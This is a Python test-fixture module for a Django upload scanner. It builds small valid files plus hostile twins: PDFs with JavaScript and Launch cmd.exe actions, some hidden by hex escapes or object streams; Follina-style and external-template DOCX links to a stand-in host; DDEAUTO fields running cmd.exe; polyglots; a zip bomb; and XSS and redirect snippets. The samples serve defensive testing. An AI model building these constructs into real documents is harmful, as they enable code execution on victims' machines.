"""Real, minimal files for the upload tests, built in memory (nothing binary is committed)."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

OFFICE = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>事業承継計画</w:t></w:r></w:p></w:body></w:document>",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheets><sheet name="売上" sheetId="1"/></sheets></workbook>',
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
    ),
}


def pdf_bytes(text="Succession plan"):
    """A small but valid one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def office_bytes(kind="docx", extra_members=(), content_types_extra=""):
    part, content_type, body = OFFICE[kind]
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/>'
        f"{content_types_extra}</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{part}"/></Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr(part, body)
        for name, data in extra_members:
            archive.writestr(name, data)
    return buffer.getvalue()


def png_bytes(width=4, height=4):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    raw = b"".join(b"\x00" + b"\x10\x80\xc0" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


def heic_bytes():
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 10, 10)).save(buffer, format="HEIF")
    return buffer.getvalue()


def exe_bytes():
    """The start of a Windows PE file: an MZ header pointing at a PE signature."""
    header = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(112))
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"PE\x00\x00" + bytes(200)


def zip_bomb_bytes(kind="docx", megabytes=24):
    """A real document with one member of zeros that expands ~1000×."""
    return office_bytes(kind, extra_members=[("word/media/padding.bin", bytes(megabytes << 20))])


def many_entries_bytes(count=3000):
    return office_bytes(extra_members=[(f"word/p{n}.xml", b"<a/>") for n in range(count)])


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


# Structural checks: each bad file has a good twin that must still pass. ------------


def jpeg_magic_only():
    return b"\xff\xd8\xff"


def pdf_with(name=b"/JavaScript", *, in_object_stream=False):
    """A valid PDF whose catalogue has an action; optionally inside a compressed object stream."""
    if name == b"/Launch":
        action = b"<< /S /Launch /F (cmd.exe) >>"
    else:
        action = b"<< /S " + name + b" " + name.replace(b"Script", b"") + b" (app.alert(1)) >>"
    plain = pdf_bytes()
    if not in_object_stream:
        return plain.replace(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>",
            1,
        )
    packed = zlib.compress(b"6 0 " + action)
    stream = (
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    return plain.replace(b"xref\n", stream + b"xref\n", 1)


def pdf_hex_escaped_javascript():
    return pdf_with(b"/J#61vaScript").replace(b"/J#61va /JS", b"/J#53")


def docx_with_relationship(rel_type, target, part="word/_rels/settings.xml.rels"):
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{rel_type}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return office_bytes("docx", extra_members=[(part, rels)])


def docx_with_external_template():
    return docx_with_relationship("attachedTemplate", "http://198.51.100.1/t.dotm")


def docx_with_external_ole():
    """The Follina pattern: an external oleObject relationship pointing at an mhtml: URL."""
    return docx_with_relationship(
        "oleObject", "mhtml:http://198.51.100.1/x.html!x-usc:http://198.51.100.1/x.html",
        part="word/_rels/document.xml.rels",
    )  # fmt: skip


def docx_with_hyperlink():
    """The good twin: an ordinary external link in a document."""
    return docx_with_relationship(
        "hyperlink", "https://example.com/", part="word/_rels/document.xml.rels"
    )


def docx_with_field(instruction):
    part, content_type, _body = OFFICE["docx"]
    body = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    )
    data = office_bytes("docx")
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for item in source.infolist():
            archive.writestr(item, body if item.filename == part else source.read(item))
    return buffer.getvalue()


STRUCTURE_GOOD = [
    ("写真.jpg", jpeg_bytes, "jpeg"),
    ("plan.pdf", lambda: pdf_bytes("JavaScript and Launch plans"), "pdf"),
    ("links.docx", docx_with_hyperlink, "docx"),
    ("pages.docx", lambda: docx_with_field([" PAGE ", "\\* MERGEFORMAT "]), "docx"),
    ("img.txt", lambda: "画像（img）とmeta情報の整理。a < b、c > d。\n".encode(), "text"),
]

STRUCTURE_BAD = [
    ("magic.jpg", jpeg_magic_only, "damaged"),
    ("exe.jpg", lambda: jpeg_bytes() + exe_bytes(), "polyglot"),
    ("pdf.jpg", lambda: jpeg_bytes() + pdf_bytes(), "polyglot"),
    ("script.pdf", pdf_with, "pdf_action"),
    ("launch.pdf", lambda: pdf_with(b"/Launch"), "pdf_action"),
    ("objstm.pdf", lambda: pdf_with(in_object_stream=True), "pdf_action"),
    ("objstm-launch.pdf", lambda: pdf_with(b"/Launch", in_object_stream=True), "pdf_action"),
    ("hex.pdf", pdf_hex_escaped_javascript, "pdf_action"),
    ("template.docx", docx_with_external_template, "external_link"),
    ("follina.docx", docx_with_external_ole, "external_link"),
    ("dde.docx", lambda: docx_with_field([' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ']), "dde"),
    ("split-dde.docx", lambda: docx_with_field([" DD", 'E cmd "/c calc" ']), "dde"),
    ("onerror.txt", lambda: b'Notes <img src=x onerror="alert(1)">', "active_content"),
    (
        "refresh.txt",
        lambda: b'<meta http-equiv="refresh" content="0;url=//evil">',
        "active_content",
    ),
]
